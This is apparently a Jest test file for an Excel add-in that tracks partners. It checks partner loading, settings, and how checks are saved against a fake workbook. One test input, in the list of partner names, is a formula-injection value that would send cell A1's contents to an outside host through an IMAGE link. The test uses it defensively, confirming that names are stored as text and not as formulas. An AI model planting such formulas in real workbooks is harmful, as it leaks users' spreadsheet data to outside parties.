/**
 * The checklist's Excel port against the in-memory Excel fake holding a
 * tracker made by the Create partner tracker command: reading the selected
 * partner, and saving a check in one batch of writes.
 */
import { createTrackerInExcel } from '../../office/tracker';
import { excelPort } from '../../office/checklist';
import { PortError, type ChecklistPort } from '../../shared/port';
import { CHECK_COLUMNS, EXAMPLE_PARTNERS, PARTNER_COLUMNS, SHEET_NAMES, type PartnerColumnKey } from '../../shared/tracker';
import { serialFromIsoDate } from '../../shared/dates';
import { createExcelFake, type ExcelFake, type ExcelSheetModel } from '../fakes/excel';
import { DEFAULT_CARD_SETTINGS } from '../../shared/tracker/card-settings';
import { PRESETS, SETTINGS_VALUE_COLUMN, settingRow } from '../../shared/tracker/settings';
import { SETTINGS_SHEET_NAMES } from '../../shared/messages/tracker-settings';
import { problemMessage } from '../../shared/messages/functions';
import { partnerOutlook } from '../../shared/partner-outlook';

const column = (key: PartnerColumnKey) => PARTNER_COLUMNS.findIndex((candidate) => candidate.key === key);
const ANSWERS = [true, true, false, true, true, true, false, true, true];
const CLARA_EXAMPLE_CHECK = EXAMPLE_PARTNERS.find((example) => example.partner === 'Clara Muster')!.check!;

interface Tracker {
  fake: ExcelFake;
  port: ChecklistPort;
  partners: ExcelSheetModel;
  checks: ExcelSheetModel;
}

function rowOf(sheet: ExcelSheetModel, name: string): number {
  for (let row = 1; row < 100; row++) if (sheet.content(row, 0) === name) return row;
  throw new Error(`${name} is not in ${sheet.name}`);
}

async function trackerWorkbook(displayLanguage = 'en-US'): Promise<Tracker> {
  const fake = await createExcelFake({ displayLanguage });
  Object.assign(globalThis, { Excel: fake.Excel, Office: fake.Office });
  const language = displayLanguage.startsWith('de') ? 'de' : 'en';
  await createTrackerInExcel(true, { run: fake.Excel.run, language: () => language, today: () => new Date(2025, 2, 14) });
  const partners = fake.workbook.sheet(SHEET_NAMES[language].partners)!;
  const checks = fake.workbook.sheet(SHEET_NAMES[language].checks)!;
  // The fake does not calculate: give the calculated cells the values Excel would show.
  const computed: Record<string, [number, string]> = {
    'Anna Beispiel': [6, '2025-03-12'],
    'Ben Example': [60, '2025-01-28'],
    'Clara Muster': [95, '2025-03-10'],
    'David Sample': [212, '2025-02-02'],
  };
  for (const [name, [hours, last]] of Object.entries(computed)) {
    const row = rowOf(partners, name);
    partners.cell(row, column('hoursTogether')).value = hours;
    partners.cell(row, column('lastContact')).value = serialFromIsoDate(last);
  }
  return { fake, port: excelPort(fake.Excel.run, () => '2025-03-14'), partners, checks };
}

function select(tracker: Tracker, sheet: ExcelSheetModel, row: number) {
  tracker.fake.workbook.active = sheet;
  tracker.fake.workbook.activeCell = { row, column: 1 };
}

function contents(sheet: ExcelSheetModel): unknown[][] {
  return sheet.contents(60, 20);
}

afterEach(() => {
  delete (globalThis as Record<string, unknown>).Excel;
  delete (globalThis as Record<string, unknown>).Office;
});

describe('reading the selected partner in Excel', () => {
  it('gives the partner of the active cell with hours, last contact and the partner list', async () => {
    const tracker = await trackerWorkbook();
    const row = rowOf(tracker.partners, 'Clara Muster');
    select(tracker, tracker.partners, row);
    tracker.fake.syncsPerRun.length = 0;
    expect(await tracker.port.loadChecklistContext()).toEqual({
      language: 'en',
      partners: ['Anna Beispiel', 'Ben Example', 'Clara Muster', 'David Sample'],
      selected: {
        name: 'Clara Muster',
        hours: 95,
        lastContact: '2025-03-10',
        // The example tracker holds Clara's check of five days before it was made (2025-03-14).
        previousCheck: { checkedOn: '2025-03-09', answers: [...CLARA_EXAMPLE_CHECK.answers], score: 8 },
        location: { sheet: 'Partners', row: row + 1 },
        // For the partner card: the row's other cells (the fake does not calculate Next contact due) and
        // the meetings of the last 90 days in the example log (2 and 5 hours; the 88 hours of 200 days ago do not count).
        asOf: '2025-03-14',
        recentHours: 7,
        score: 8,
        checkedOn: '2025-03-09',
        nextContactDue: null,
        referralsGiven: 3,
        referralsReceived: 2,
        // The new tracker's Settings, at their defaults.
        settings: DEFAULT_CARD_SETTINGS,
      },
    });
    expect(tracker.fake.syncsPerRun).toEqual([3]);
  });

  it('reads the tracker’s Settings for the partner card in the same three syncs', async () => {
    const tracker = await trackerWorkbook();
    const settings = tracker.fake.workbook.sheet(SETTINGS_SHEET_NAMES.en)!;
    // The fake does not calculate: the values Excel shows for the Students preset, and a shorter window.
    (['casualFriend', 'friend', 'closeFriend'] as const).forEach((key, index) => {
      settings.cell(settingRow(key), SETTINGS_VALUE_COLUMN).value = PRESETS.students[index];
    });
    settings.enter(settingRow('forecastDays'), SETTINGS_VALUE_COLUMN, 10);
    settings.enter(settingRow('renewalDays'), SETTINGS_VALUE_COLUMN, 365);
    select(tracker, tracker.partners, rowOf(tracker.partners, 'Clara Muster'));
    tracker.fake.syncsPerRun.length = 0;
    const { selected } = await tracker.port.loadChecklistContext();
    expect(selected!.settings).toEqual({ ...DEFAULT_CARD_SETTINGS, thresholds: [43, 57, 119], forecastDays: 10, renewalDays: 365 });
    // Of the meetings of 12 and 4 days ago (2 and 5 hours), only the later is within 10 days.
    expect(selected!.recentHours).toBe(5);
    expect(tracker.fake.syncsPerRun).toEqual([3]);
    expect(partnerOutlook(selected!)!.forecast).toMatchObject({ kind: 'date', stage: 'closeFriend' });
  });

  it('gives the card the message of a bad setting, in the same words the tracker’s cells show', async () => {
    const tracker = await trackerWorkbook('de-DE');
    tracker.fake.workbook.sheet(SETTINGS_SHEET_NAMES.de)!.enter(settingRow('readyScore'), SETTINGS_VALUE_COLUMN, 12);
    const partner = await tracker.port.loadPartner('Clara Muster');
    expect(partner.settings).toBeUndefined();
    expect(partner.settingsProblem!.de).toBe(problemMessage({ kind: 'numberInvalid', name: 'min_score', rule: 'score', value: 12 }, 'de'));
    expect(partnerOutlook(partner)).toBeNull();
  });

  it('gives only the partner list when the active cell is elsewhere', async () => {
    const tracker = await trackerWorkbook();
    select(tracker, tracker.fake.workbook.sheet('Meetings')!, 4);
    expect((await tracker.port.loadChecklistContext()).selected).toBeNull();
    select(tracker, tracker.partners, 0);
    expect((await tracker.port.loadChecklistContext()).selected).toBeNull();
  });

  it('loads a partner picked by name, and says when there is none of that name', async () => {
    const tracker = await trackerWorkbook();
    expect(await tracker.port.loadPartner('Ben Example')).toMatchObject({ name: 'Ben Example', hours: 60 });
    await expect(tracker.port.loadPartner('Nobody')).rejects.toEqual(new PortError({ kind: 'partnerNotFound', partner: 'Nobody' }));
  });

  it('speaks German and reads a German tracker', async () => {
    const tracker = await trackerWorkbook('de-DE');
    select(tracker, tracker.partners, rowOf(tracker.partners, 'Ben Example'));
    expect(await tracker.port.loadChecklistContext()).toMatchObject({
      language: 'de',
      selected: { name: 'Ben Example', location: { sheet: 'Partner' } },
    });
  });

  it('says there is no tracker in a workbook without one', async () => {
    const fake = await createExcelFake();
    Object.assign(globalThis, { Excel: fake.Excel, Office: fake.Office });
    await expect(excelPort(fake.Excel.run).loadChecklistContext()).rejects.toEqual(new PortError({ kind: 'noTracker' }));
  });
});

describe('saving a check in Excel', () => {
  const check = (tracker: Tracker, partner = 'Clara Muster') => ({
    partner,
    location: { sheet: 'Partners', row: rowOf(tracker.partners, partner) + 1 },
    checkedOn: '2025-03-14',
    answers: ANSWERS,
  });

  it('writes only the score and date and one Checks table row: one sync to read, one to write', async () => {
    const tracker = await trackerWorkbook();
    const row = rowOf(tracker.partners, 'Clara Muster');
    // As the task pane does: the partner is loaded before it is saved.
    select(tracker, tracker.partners, row);
    await tracker.port.loadChecklistContext();
    const partnersBefore = contents(tracker.partners);
    const checksBefore = contents(tracker.checks);
    const checksTable = tracker.fake.workbook.tables.find((table) => table.sheet === tracker.checks)!;
    const tableRows = checksTable.area.rows;
    tracker.fake.log.reset();
    tracker.fake.syncsPerRun.length = 0;

    expect(await tracker.port.saveCheck(check(tracker))).toEqual({
      partner: 'Clara Muster',
      checkedOn: '2025-03-14',
      score: 7,
      location: { sheet: 'Partners', row: row + 1 },
    });

    const serial = serialFromIsoDate('2025-03-14');
    partnersBefore[row][column('checklistScore')] = 7;
    partnersBefore[row][column('checkedOn')] = serial;
    expect(contents(tracker.partners)).toEqual(partnersBefore);
    const appended = [serial, 'Clara Muster', ...ANSWERS, 7];
    checksBefore[tableRows] = [...appended, ...new Array<string>(20 - appended.length).fill('')];
    expect(contents(tracker.checks)).toEqual(checksBefore);
    expect(checksTable.area.rows).toBe(tableRows + 1);
    expect(checksBefore[0].slice(0, CHECK_COLUMNS.length)).toEqual(CHECK_COLUMNS.map((declared) => declared.header.en));

    // One sync reads the remembered sheets; the second carries every write.
    expect(tracker.fake.syncsPerRun).toEqual([2]);
    const calls = tracker.fake.log.calls;
    const writes = calls.filter((name) => /=$|\.add$/.test(name));
    // The history row first (its name cell formatted as text, then written), so a failure part-way never leaves a score without its check.
    expect(writes).toEqual(['TableRowCollection.add', 'Range.numberFormat=', 'Range.values=', 'Range.values=']);
    expect(calls.indexOf('TableRowCollection.add')).toBeGreaterThan(calls.indexOf('RequestContext.sync'));
  });

  it('reads afresh when the remembered tracker moved, or when nothing was loaded yet', async () => {
    const tracker = await trackerWorkbook();
    tracker.fake.syncsPerRun.length = 0;
    // Saved without a load: the tracker is found by its headers first.
    expect((await tracker.port.saveCheck(check(tracker))).score).toBe(7);
    expect(tracker.fake.syncsPerRun).toEqual([4]);

    // Renamed after loading: the remembered sheet is gone, so the save reads afresh and still lands in the right rows.
    await tracker.port.loadPartner('Clara Muster');
    tracker.checks.name = 'Verlauf';
    tracker.fake.syncsPerRun.length = 0;
    const before = tracker.fake.workbook.tables.find((table) => table.sheet === tracker.checks)!.area.rows;
    expect((await tracker.port.saveCheck({ ...check(tracker), checkedOn: '2025-03-15' })).location).toEqual(check(tracker).location);
    expect(tracker.fake.syncsPerRun).toEqual([0, 4]);
    expect(tracker.checks.content(before, 0)).toBe(serialFromIsoDate('2025-03-15'));

    // And the next save uses the fresh place again: 2 syncs.
    tracker.fake.syncsPerRun.length = 0;
    await tracker.port.saveCheck(check(tracker));
    expect(tracker.fake.syncsPerRun).toEqual([2]);
  });

  it('reads afresh when the remembered Checks sheet no longer has its headers', async () => {
    const tracker = await trackerWorkbook();
    await tracker.port.loadPartner('Clara Muster');
    const moved = tracker.fake.workbook.addSheet('Checks 2025');
    CHECK_COLUMNS.forEach((declared, index) => moved.write(0, index, declared.header.en));
    tracker.checks.write(0, 0, 'Archived');
    tracker.fake.syncsPerRun.length = 0;
    await tracker.port.saveCheck(check(tracker));
    expect(tracker.fake.syncsPerRun).toEqual([1, 4]);
    expect(moved.content(1, 1)).toBe('Clara Muster');
  });

  it('fills the blank row a new, empty Checks table starts with, leaving no gap', async () => {
    const fake = await createExcelFake();
    Object.assign(globalThis, { Excel: fake.Excel, Office: fake.Office });
    await createTrackerInExcel(false, { run: fake.Excel.run, language: () => 'en', today: () => new Date(2025, 2, 14) });
    const partners = fake.workbook.sheet('Partners')!;
    partners.cell(1, 0).value = 'Eva Neu';
    const checksTable = fake.workbook.tables.find((table) => table.name === 'Checks')!;
    expect(checksTable.area.rows).toBe(2);

    await excelPort(fake.Excel.run).saveCheck({
      partner: 'Eva Neu',
      location: { sheet: 'Partners', row: 2 },
      checkedOn: '2025-03-14',
      answers: ANSWERS,
    });
    const checks = fake.workbook.sheet('Checks')!;
    expect(checks.content(1, 1)).toBe('Eva Neu');
    expect(checks.content(2, 1)).toBe('');
    expect(checksTable.area.rows).toBe(2);

    await excelPort(fake.Excel.run).saveCheck({
      partner: 'Eva Neu',
      location: { sheet: 'Partners', row: 2 },
      checkedOn: '2025-03-15',
      answers: ANSWERS,
    });
    expect(checks.content(2, 1)).toBe('Eva Neu');
    expect(checksTable.area.rows).toBe(3);
  });

  it("never writes over the Checks table's single row when the user typed into it", async () => {
    const fake = await createExcelFake();
    Object.assign(globalThis, { Excel: fake.Excel, Office: fake.Office });
    await createTrackerInExcel(false, { run: fake.Excel.run, language: () => 'en', today: () => new Date(2025, 2, 14) });
    fake.workbook.sheet('Partners')!.write(1, 0, 'Eva Neu');
    const checks = fake.workbook.sheet('Checks')!;
    // A formula showing nothing is still something the user typed.
    checks.write(1, 3, '=""');
    const checksTable = fake.workbook.tables.find((table) => table.name === 'Checks')!;

    await excelPort(fake.Excel.run).saveCheck({ partner: 'Eva Neu', location: null, checkedOn: '2025-03-14', answers: ANSWERS });
    expect(checks.content(1, 3)).toBe('=""');
    expect(checks.content(1, 1)).toBe('');
    expect(checks.content(2, 1)).toBe('Eva Neu');
    expect(checksTable.area.rows).toBe(3);
  });

  it("fills the blank rows left at the Checks table's end before growing it", async () => {
    const tracker = await trackerWorkbook();
    const checksTable = tracker.fake.workbook.tables.find((table) => table.sheet === tracker.checks)!;
    const last = checksTable.area.row + checksTable.area.rows - 1;
    // The user cleared the table's last row; a note of theirs stands further down, beside the table.
    for (let column = 0; column < checksTable.area.columns; column++) tracker.checks.cells.delete(`${last},${column}`);
    tracker.checks.write(last + 5, checksTable.area.columns + 1, 'my note');
    const rows = checksTable.area.rows;
    await tracker.port.saveCheck(check(tracker));
    expect(tracker.checks.content(last, 1)).toBe('Clara Muster');
    expect(checksTable.area.rows).toBe(rows);
    expect(tracker.checks.content(last + 5, checksTable.area.columns + 1)).toBe('my note');
  });

  it('finds the partner by name when the row moved', async () => {
    const tracker = await trackerWorkbook();
    const loaded = check(tracker);
    const claraRow = rowOf(tracker.partners, 'Clara Muster');
    const annaRow = rowOf(tracker.partners, 'Anna Beispiel');
    const clara = tracker.partners.content(claraRow, 0);
    tracker.partners.write(claraRow, 0, tracker.partners.content(annaRow, 0));
    tracker.partners.write(annaRow, 0, clara);

    expect((await tracker.port.saveCheck(loaded)).location).toEqual({ sheet: 'Partners', row: annaRow + 1 });
    expect(tracker.partners.content(annaRow, column('checklistScore'))).toBe(7);
  });

  it('finds the tracker by its headers when the sheets were renamed', async () => {
    const tracker = await trackerWorkbook();
    const loaded = check(tracker);
    tracker.partners.name = 'Kontakte';
    tracker.checks.name = 'Verlauf';
    expect((await tracker.port.saveCheck(loaded)).location).toEqual({ sheet: 'Kontakte', row: loaded.location.row });
  });

  it('writes nothing when Excel stops before the write, and the next save still works', async () => {
    const tracker = await trackerWorkbook();
    await tracker.port.loadPartner('Clara Muster');
    const before = [contents(tracker.partners), contents(tracker.checks)];
    tracker.fake.failNextSync = { after: 0, message: 'GeneralException: The workbook is busy' };
    await expect(tracker.port.saveCheck(check(tracker))).rejects.toEqual(
      new PortError({ kind: 'hostFailure', message: 'GeneralException: The workbook is busy' }),
    );
    expect([contents(tracker.partners), contents(tracker.checks)]).toEqual(before);
    expect((await tracker.port.saveCheck(check(tracker))).score).toBe(7);
  });

  it('writes nothing and says so when the partner is gone', async () => {
    const tracker = await trackerWorkbook();
    const loaded = check(tracker);
    tracker.partners.write(loaded.location.row - 1, 0, 'Clara Schmidt');
    const before = [contents(tracker.partners), contents(tracker.checks)];
    await expect(tracker.port.saveCheck(loaded)).rejects.toEqual(new PortError({ kind: 'partnerNotFound', partner: 'Clara Muster' }));
    expect([contents(tracker.partners), contents(tracker.checks)]).toEqual(before);
  });

  it('turns an Excel failure into a readable host failure', async () => {
    const tracker = await trackerWorkbook();
    tracker.fake.Excel.run = () => Promise.reject(new Error('RichApi.Error: The workbook is busy'));
    const port = excelPort(tracker.fake.Excel.run);
    await expect(port.saveCheck(check(tracker))).rejects.toEqual(
      new PortError({ kind: 'hostFailure', message: 'RichApi.Error: The workbook is busy' }),
    );
  });
});

describe('what a save writes in Excel stays what it was', () => {
  // Names a user can give a partner that Excel would otherwise read as a formula, a number, a boolean or a date.
  const NAMES = ['=IMAGE("https://example.com/x.png"&A1)', '+49 170 1234567', '-Anna', '@Ben', '007', 'TRUE', '1/2', '1e3', '50%'];

  async function saveAs(name: string, withTable: boolean) {
    const tracker = await trackerWorkbook();
    if (!withTable)
      tracker.fake.workbook.tables.splice(
        tracker.fake.workbook.tables.findIndex((table) => table.sheet === tracker.checks),
        1,
      );
    const row = rowOf(tracker.partners, 'Anna Beispiel');
    // The name as the user entered it (as text) in the Partners sheet.
    tracker.partners.cell(row, 0).value = name;
    await tracker.port.loadPartner(name);
    const saved = await tracker.port.saveCheck({
      partner: name,
      location: { sheet: 'Partners', row: row + 1 },
      checkedOn: '2025-03-14',
      answers: ANSWERS,
    });
    return { tracker, row, saved };
  }

  function lastCheckRow(sheet: ExcelSheetModel): number {
    let row = 0;
    while (sheet.content(row + 1, 1) !== '') row++;
    return row;
  }

  it.each(NAMES)('stores the partner %s as that text in the Checks table, and shows the check next time', async (name) => {
    const { tracker, saved } = await saveAs(name, true);
    expect(saved.partner).toBe(name);
    const cell = tracker.checks.cell(lastCheckRow(tracker.checks), 1);
    expect(cell).toMatchObject({ value: name, formula: '', numberFormat: '@' });
    expect((await tracker.port.loadPartner(name)).previousCheck).toEqual({ checkedOn: '2025-03-14', answers: ANSWERS, score: 7 });
  });

  it.each(NAMES)('stores the partner %s as that text in a Checks sheet without a table', async (name) => {
    const { tracker } = await saveAs(name, false);
    expect(tracker.checks.cell(lastCheckRow(tracker.checks), 1)).toMatchObject({ value: name, formula: '', numberFormat: '@' });
    expect((await tracker.port.loadPartner(name)).previousCheck).toMatchObject({ checkedOn: '2025-03-14', score: 7 });
  });

  it('keeps answers booleans, the score and the dates numbers, in their own formats', async () => {
    const { tracker, row } = await saveAs('Anna Beispiel', true);
    const last = lastCheckRow(tracker.checks);
    expect(tracker.checks.contents(last + 1, CHECK_COLUMNS.length)[last]).toEqual([
      serialFromIsoDate('2025-03-14'),
      'Anna Beispiel',
      ...ANSWERS,
      7,
    ]);
    expect(tracker.checks.cell(last, 0).numberFormat).not.toBe('@');
    expect(tracker.checks.cell(last, 2).numberFormat).not.toBe('@');
    expect(tracker.partners.content(row, column('checklistScore'))).toBe(7);
    expect(tracker.partners.content(row, column('checkedOn'))).toBe(serialFromIsoDate('2025-03-14'));
  });
});
